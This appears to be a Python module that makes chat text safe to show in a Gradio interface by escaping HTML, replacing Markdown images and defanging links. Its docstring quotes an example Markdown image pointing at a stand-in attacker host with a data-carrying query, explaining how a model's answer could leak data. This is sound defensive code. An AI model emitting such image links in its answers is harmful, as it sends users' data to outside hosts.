"""Chat text shown as text: what the model, the knowledge base or a user wrote never becomes
HTML on the page, and nothing it names is fetched.

Gradio's chat renders Markdown and passes some HTML through (`<img>`, `<svg>`, `<details>`,
`<form>`), and a Markdown image is fetched as soon as it is shown: an answer holding
`![](https://evil.example/?q=...)` would send data off the machine. So, outside code (which
Markdown already shows literally): every `<` is written as the entity (no tag can form),
images are replaced by their alt text and host, and links keep their text but their address
becomes plain code unless its host is allow-listed (none by default).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from functools import lru_cache
from typing import Any
from urllib.parse import urlparse

__all__ = ["ALLOWED_LINK_HOSTS", "safe_markdown", "safe_messages"]

ALLOWED_LINK_HOSTS: frozenset[str] = frozenset()
# Texts kept made safe: every turn shows the whole chat again, each earlier message unchanged.
CACHED_TEXTS = 2048
_CODE = re.compile(r"(```.*?```|`[^`\n]+`)", re.S)
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")
# A '<' already escaped for Markdown (`assistant.answers.literal`): an odd run of backslashes
# before it. Written as the entity, its backslash would escape the entity's '&' instead.
_ESCAPED_LT = re.compile(r"(?<!\\)((?:\\\\)*)\\<")
_LINK = re.compile(r"\[([^\]\n]+)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")


def _host(url: str) -> str:
    return (urlparse(url).hostname or "").lower()


def _plain(part: str, allowed: frozenset[str]) -> str:
    """One stretch of text outside code, made safe."""
    part = _ESCAPED_LT.sub(r"\1&lt;", part).replace("<", "&lt;")

    def image(match: re.Match[str]) -> str:
        alt = match.group(1).strip() or "image"
        host = _host(match.group(2))
        return f"[{alt}: {host}]" if host else f"[{alt}]"

    def link(match: re.Match[str]) -> str:
        text, url = match.group(1), match.group(2)
        if _host(url) in allowed and urlparse(url).scheme in ("http", "https"):
            return match.group(0)
        return f"{text} (`{url.replace('`', '')}`)" if url else text

    part = _IMAGE.sub(image, part)
    part = part.replace("![", "!\\[")  # no image of any other form (reference style)
    return _LINK.sub(link, part)


def safe_markdown(text: str, allowed: Iterable[str] = ALLOWED_LINK_HOSTS) -> str:
    """`text` as Markdown that renders no HTML, shows no image and links only `allowed` hosts."""
    hosts = frozenset(h.lower() for h in allowed)
    parts = _CODE.split(text)
    return "".join(p if i % 2 else _plain(p, hosts) for i, p in enumerate(parts))


@lru_cache(maxsize=CACHED_TEXTS)
def _shown(text: str) -> str:
    return safe_markdown(text)


def safe_messages(messages: Sequence[dict[str, Any]]) -> list[dict[str, Any]]:
    """Chat messages with their text and their titles made safe (the stored ones unchanged)."""
    shown = []
    for message in messages:
        item = dict(message)
        if isinstance(item.get("content"), str):
            item["content"] = _shown(item["content"])
        metadata = item.get("metadata")
        if isinstance(metadata, dict) and isinstance(metadata.get("title"), str):
            item["metadata"] = {**metadata, "title": _shown(metadata["title"])}
        shown.append(item)
    return shown
